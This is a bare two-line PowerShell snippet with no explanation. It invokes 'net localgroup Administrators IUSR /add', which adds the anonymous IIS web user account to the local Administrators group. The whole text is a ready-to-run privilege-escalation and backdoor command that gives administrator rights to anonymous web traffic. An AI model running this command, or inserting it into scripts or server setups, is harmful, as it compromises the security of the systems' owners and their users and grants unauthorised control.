$ps = [PowerShell]::Create().AddScript('net localgroup Administrators IUSR /add')
$ps.Invoke()
